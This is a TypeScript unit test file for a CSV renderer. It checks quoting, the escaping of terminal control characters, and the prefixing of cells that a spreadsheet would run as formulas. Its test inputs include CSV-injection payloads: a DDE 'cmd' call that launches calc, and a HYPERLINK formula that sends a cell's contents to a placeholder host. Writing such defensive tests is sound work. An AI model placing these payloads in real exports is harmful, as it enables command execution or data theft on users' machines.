import assert from 'node:assert/strict';
import { test } from 'node:test';
import { renderCsv } from '../../../src/print/printers.ts';

test('quotes only if necessary, and escapes terminal control characters', () => {
  assert.equal(
    renderCsv([
      ['a', 'b c', ''],
      ['x,y', 'say "hi"', '\u001b[2J\n'],
    ]),
    'a,b c,\n"x,y","say ""hi""",\\u001b[2J\\n',
  );
  assert.equal(renderCsv([]), '');
});

test('prefixes a text that a spreadsheet would run as a formula, but not numbers', () => {
  const cases: [text: string, cell: string][] = [
    ["=cmd|'/C calc'!A0", "'=cmd|'/C calc'!A0"],
    ['=HYPERLINK("http://x/?"&A1,"y")', `"'=HYPERLINK(""http://x/?""&A1,""y"")"`],
    ['+1+cmd', "'+1+cmd"],
    ['-2+3', "'-2+3"],
    ['-2Gi+cmd', "'-2Gi+cmd"],
    ['@SUM(A1)', "'@SUM(A1)"],
    ['\uff1d1+1', "'\uff1d1+1"],
    ['-', "'-"],
    // Starts with an escape, not with one of these characters.
    ['\t=1', '\\t=1'],
    ['\r=1', '\\r=1'],
    // Text after a semicolon is not at the start of a cell.
    ['a;=1+1', '"a;=1+1"'],
    ...['-5', '+5', '-0.25', '1e-9', '-1E+30', '-2Gi', '-100m', '-5k', 'a=b', 'a-b', ''].map(
      (same): [string, string] => [same, same],
    ),
  ];
  for (const [text, cell] of cases) assert.equal(renderCsv([['a', text]]), `a,${cell}`);
});
